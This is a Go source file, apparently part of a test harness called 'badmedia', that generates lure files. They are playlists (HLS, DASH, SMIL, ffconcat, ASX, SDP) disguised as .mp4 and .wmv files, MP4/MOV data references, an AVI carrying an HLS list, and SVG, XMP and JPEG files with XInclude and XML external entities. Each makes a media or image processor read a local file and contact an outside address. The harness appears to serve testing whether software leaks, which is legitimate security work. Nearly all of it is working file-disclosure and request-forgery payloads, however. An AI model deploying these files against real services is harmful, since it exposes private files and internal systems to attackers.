package badmedia

import (
	"bytes"
	"encoding/binary"
	"strings"
)

func filled(format string, t Trap) string {
	return strings.NewReplacer("FILE", t.File, "ADDRESS", t.Address).Replace(format)
}

// lists are texts that name other things to read, under the names of films.
var lists = []File{
	{Name: "hls.mp4", Class: Lure, Film: true, About: "an HLS list of a file and an address", make: text(hls)},
	{Name: "hls-key.mp4", Class: Lure, Film: true, About: "an HLS list whose key is a file", make: text(hlsKey)},
	{Name: "ffconcat.mp4", Class: Lure, Film: true, About: "a list of the concat format", make: text(
		"ffconcat version 1.0\nfile 'FILE'\nfile 'http://ADDRESS/concat.ts'\n")},
	{Name: "dash.mp4", Class: Lure, Film: true, About: "a DASH manifest", make: text(dash)},
	{Name: "smil.mp4", Class: Lure, Film: true, About: "a SMIL document", make: text(smil)},
	{Name: "sdp.mp4", Class: Lure, Film: true, About: "a session description that would have its reader listen and send", make: text(
		"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:rtsp://ADDRESS/\n")},
	{Name: "asx.wmv", Class: Lure, Film: true, About: "a list of Windows Media", make: text(
		"[Reference]\nRef1=http://ADDRESS/a.wmv\nRef2=file://FILE\n")},
}

const hls = `#EXTM3U
#EXT-X-VERSION:3
#EXT-X-TARGETDURATION:2
#EXT-X-MEDIA-SEQUENCE:0
#EXTINF:1.0,
file://FILE
#EXTINF:1.0,
http://ADDRESS/hls.ts
#EXT-X-ENDLIST
`

const hlsKey = `#EXTM3U
#EXT-X-VERSION:3
#EXT-X-TARGETDURATION:2
#EXT-X-KEY:METHOD=AES-128,URI="file://FILE",IV=0x00000000000000000000000000000000
#EXTINF:1.0,
data:video/mp2t;base64,R0AREABC8CUAAcEAAP8B/wAB
#EXTINF:1.0,
concat:http://ADDRESS/key.ts|file://FILE
#EXT-X-ENDLIST
`

const dash = `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000" width="64" height="64" codecs="avc1.42c00a">
<BaseURL>http://ADDRESS/dash.mp4</BaseURL><SegmentBase><Initialization sourceURL="file://FILE"/></SegmentBase>
</Representation></AdaptationSet></Period></MPD>
`

const smil = `<smil xmlns="http://www.w3.org/2001/SMIL20/Language"><head><meta base="http://ADDRESS/"/></head>
<body><seq><video src="file://FILE"/><video src="http://ADDRESS/smil.mp4"/></seq></body></smil>
`

// references are true containers that say their data is elsewhere.
var references = []File{
	{Name: "dref-url.mp4", Class: Lure, Film: true, About: "an MP4 whose frames are said to be at an address",
		make: dref(func(t Trap) []byte {
			return box("url ", []byte{0, 0, 0, 0}, []byte("http://"+t.Address+"/dref.mp4\x00"))
		})},
	{Name: "dref-file.mp4", Class: Lure, Film: true, About: "an MP4 whose frames are said to be in a file",
		make: dref(func(t Trap) []byte { return box("url ", []byte{0, 0, 0, 0}, []byte("file://"+t.File+"\x00")) })},
	{Name: "dref-alias.mov", Class: Lure, Film: true, About: "a MOV whose frames are said to be in a file, as a Macintosh names it",
		make: dref(func(t Trap) []byte { return box("alis", alias(t.File)) })},
	{Name: "subtitles.avi", Class: Lure, Film: true, About: "an AVI whose subtitles are an HLS list", make: aviWithList},
}

// dref takes the frames' place from a film and names another.
func dref(entry func(Trap) []byte) func(Trap) ([]byte, error) {
	return func(t Trap) ([]byte, error) {
		film, err := tinyFilm("-f", "mov")
		if err != nil {
			return nil, err
		}
		return edited(film, map[string]func([]byte) []byte{
			"dref": func([]byte) []byte { return append([]byte{0, 0, 0, 0, 0, 0, 0, 1}, entry(t)...) },
		})
	}
}

// alias is a record of the Macintosh, with the path in the forms that readers look for.
func alias(path string) []byte {
	b := make([]byte, 4+150) // version and flags, then the fixed part
	copy(b[4+10:], "\x04disk")
	name := path[strings.LastIndex(path, "/")+1:]
	b[4+50] = byte(min(len(name), 63))
	copy(b[4+51:4+114], name)
	binary.BigEndian.PutUint16(b[4+4:], 150)
	field := func(kind uint16, value string) {
		b = binary.BigEndian.AppendUint16(b, kind)
		b = binary.BigEndian.AppendUint16(b, uint16(len(value)))
		b = append(b, value...)
		if len(value)%2 == 1 {
			b = append(b, 0)
		}
	}
	field(2, "disk:"+strings.ReplaceAll(strings.TrimPrefix(path, "/"), "/", ":"))
	field(18, path)
	field(19, "/")
	return binary.BigEndian.AppendUint16(b, 0xffff)
}

// aviWithList has one track of subtitles, which are a file of their own inside (GAB2): ffmpeg looks by
// itself what kind of file that is.
func aviWithList(t Trap) ([]byte, error) {
	list := filled(hls, t)
	gab := []byte("GAB2\x00\x02\x00")
	gab = binary.LittleEndian.AppendUint32(gab, 4)
	gab = append(gab, "x\x00\x00\x00\x04\x00"...)
	gab = binary.LittleEndian.AppendUint32(gab, uint32(len(list)))
	gab = append(gab, list...)
	header := make([]byte, 56)
	binary.LittleEndian.PutUint32(header, 40_000)
	binary.LittleEndian.PutUint32(header[24:], 1)
	stream := make([]byte, 56)
	copy(stream, "txts")
	binary.LittleEndian.PutUint32(stream[20:], 1)
	binary.LittleEndian.PutUint32(stream[24:], 25)
	binary.LittleEndian.PutUint32(stream[32:], 1)
	return chunk("RIFF", []byte("AVI "),
		chunk("LIST", []byte("hdrl"), chunk("avih", header),
			chunk("LIST", []byte("strl"), chunk("strh", stream), chunk("strf", nil))),
		chunk("LIST", []byte("movi"), chunk("00tx", gab))), nil
}

func chunk(kind string, parts ...[]byte) []byte {
	body := bytes.Join(parts, nil)
	b := binary.LittleEndian.AppendUint32([]byte(kind), uint32(len(body)))
	b = append(b, body...)
	if len(body)%2 == 1 {
		b = append(b, 0)
	}
	return b
}

// drawings are texts that may name others, and metadata that may.
var drawings = []File{
	{Name: "include.svg", Class: Lure, About: "an SVG that includes a file by XInclude", make: text(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="300" height="100">
<rect width="300" height="100" fill="#fff"/><text y="40"><xi:include href="file://FILE" parse="text"/></text>
<text y="80"><xi:include href="http://ADDRESS/include" parse="text"/></text></svg>
`)},
	{Name: "entity.svg", Class: Lure, About: "an SVG with external entities", make: text(`<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a SYSTEM "file://FILE"><!ENTITY b SYSTEM "http://ADDRESS/entity"><!ENTITY % c SYSTEM "http://ADDRESS/dtd"> %c;]>
<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><text y="40">&a;</text><text y="80">&b;</text></svg>
`)},
	{Name: "image.svg", Class: Lure, About: "an SVG of pictures, styles and fonts that are elsewhere", make: text(`<?xml version="1.0"?>
<?xml-stylesheet href="http://ADDRESS/style.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100">
<style>@import url("http://ADDRESS/import.css"); @font-face { font-family: x; src: url("http://ADDRESS/font.woff"); }</style>
<image xlink:href="file://FILE" width="100" height="100"/><image href="FILE" width="100" height="100"/>
<image href="http://ADDRESS/image.png" width="100" height="100"/><use href="http://ADDRESS/use.svg#x"/>
<script href="http://ADDRESS/script.js"/></svg>
`)},
	{Name: "xxe.xmp", Class: Lure, About: "XMP with external entities", make: text(xmp)},
	{Name: "xxe.jpg", Class: Lure, About: "a JPEG with XMP with external entities", make: func(t Trap) ([]byte, error) {
		packet := append([]byte("http://ns.adobe.com/xap/1.0/\x00"), filled(xmp, t)...)
		segment := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(packet)+2))
		picture := smallJPEG()
		return bytes.Join([][]byte{picture[:2], segment, packet, picture[2:]}, nil), nil
	}},
}

const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<!DOCTYPE x [<!ENTITY a SYSTEM "file://FILE"><!ENTITY b SYSTEM "http://ADDRESS/xmp">]>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&a;&b;</dc:title></rdf:Description>
</rdf:RDF></x:xmpmeta><?xpacket end="w"?>
`
